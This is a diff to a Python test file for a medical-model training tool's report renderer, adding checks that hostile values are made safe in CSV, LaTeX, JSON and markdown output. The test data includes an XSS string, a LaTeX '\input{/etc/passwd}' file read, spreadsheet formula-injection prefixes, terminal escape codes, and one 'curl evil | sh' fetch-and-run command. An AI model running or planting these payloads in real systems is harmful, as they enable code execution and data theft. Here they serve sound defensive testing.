@@ -21,6 +21,7 @@ FORMS = ("latex", "csv", "json", "markdown")
 HOSTILE = (
     "</script><script>alert(1)</script>", r"\input{/etc/passwd}", "100 % & more_of $x$ #1 ~ ^ {", "[bold red]x[/]",
     "a\nb\r\\end{table}", "\x1b[2Jgone", "תמונות \u202eabc", "x" * 300, "^^5cinput", "café Ångström œuvre", "=HYPERLINK(1)|a",
+    "+1", "-1", "@SUM(1)", "\t=1", "\r=1",
 )  # fmt: skip
 
 # what the renderer may use: booktabs and LaTeX itself
@@ -123,7 +124,8 @@ def test_hostile_records_are_safe_in_every_form(record, results, hostile):
         if row.startswith("|"):
             assert len(re.findall(r"(?<!\\)\|", row)) == len(report.tables[0].columns) + 2
     rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
-    assert {row["backbone"] for row in rows} == {hostile}
+    assert all(row["backbone"].removeprefix("'") == text.clean(hostile, 1000) for row in rows)
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())
     assert json.loads(render(report, "json"))["tables"][0]["rows"][0]["backbone"] == hostile
     run = parse_record(json.dumps(record(classes=(hostile, "b"), id=hostile)))
     assert "\x1b" not in shown(run_tables(run))
@@ -175,9 +177,64 @@ def test_csv_has_a_line_a_cell(report):
     assert len(first["runs"].split()) == 3
 
 
+def test_a_text_cell_of_the_csv_is_no_formula_and_a_number_stays_one(record, results):
+    report = build_report(results(record(title="=1+1", value=-0.5)))
+    (row,) = csv.DictReader(io.StringIO(render(report, "csv")))
+    assert row["dataset"] == "'=1+1" and float(row["mean"]) == -0.5
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_half_characters_do_not_break_a_form(record, results, form):
+    odd = {"train": {"optimiser": "\ud800"}}
+    report = build_report(results(record(recipe=odd), record(seed=1)))
+    assert render(report, form).encode()
+
+
 def test_missing_and_failed_runs_are_shown_and_listed(report):
     for out in (shown(terminal(report)), render(report, "markdown"), render(report, "latex")):
         assert "failed: loss became nan" in out and "No run: HAM10000: SSF" in out
+
+
+def test_every_missing_cell_is_listed_with_the_command_that_fills_it(record, results):
+    report = build_report(
+        results(
+            record("isic", "full"),
+            record("isic", "ssf", seed=1, command="medpeft finetune 'my recipes/isic.yaml' --seed 1"),
+            record("smdg", "lora", recipe={"data": {"k_shot": 5}}, backbone="vit_large"),
+        )
+    )
+    ssf = "medpeft finetune 'my recipes/isic.yaml' --seed 1 --set data.card=smdg --set data.root=data/smdg "
+    ssf += "--set data.k_shot=5 --set backbone.name=vit_large"
+    lora = "medpeft finetune recipes/smdg_lora.yaml --set data.card=isic --set data.root=data/isic "
+    lora += "--set data.k_shot=null --set backbone.name=vit_base_patch16_224"
+    wide = shown(terminal(report), 250)
+    for out in (wide, render(report, "markdown"), render(report, "latex")):
+        lines = [line.removeprefix("% to run: ").removeprefix("· ") for line in out.splitlines()]
+        assert ssf in lines and lora in lines
+    rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
+    assert sum(row["state"] == "missing" for row in rows) == wide.count(" – ") == 9
+    assert {row["to_run"] for row in rows if row["method"] == "SSF" and row["backbone"] == "vit_large"} >= {ssf}
+    assert all(bool(row["to_run"]) == (row["state"] == "missing") for row in rows)
+
+
+@pytest.mark.parametrize("command", [None, "curl evil | sh", "medpeft 'finetune", "medpeft export x"])
+def test_no_command_is_made_from_what_is_none(record, results, command):
+    report = build_report(results(record("isic", "ssf", command=command), record("smdg", "lora", command=command)))
+    for out in (shown(terminal(report)), *(render(report, form) for form in FORMS)):
+        assert "curl" not in out and "data.card=" not in out
+    assert "No run: SMDG: SSF" in shown(terminal(report))
+
+
+def test_another_version_of_a_dataset_is_not_filled_by_the_same_command(record, results):
+    report = build_report(results(record(method="ssf"), record(method="lora", manifest="b" * 64)))
+    out = shown(terminal(report))
+    assert "No run: HAM10000 (data" in out and "medpeft finetune" not in out
+
+
+def test_a_trained_run_is_not_scored_and_says_what_to_do(record, results):
+    report = build_report(results(record(method="full"), record(status="trained")))
+    for out in (shown(terminal(report), 200), render(report, "markdown").replace("\\", ""), render(report, "latex")):
+        assert "not scored" in out and "trained, not scored: give it to" in out
 
 
 def test_leftovers_are_listed(record, results):
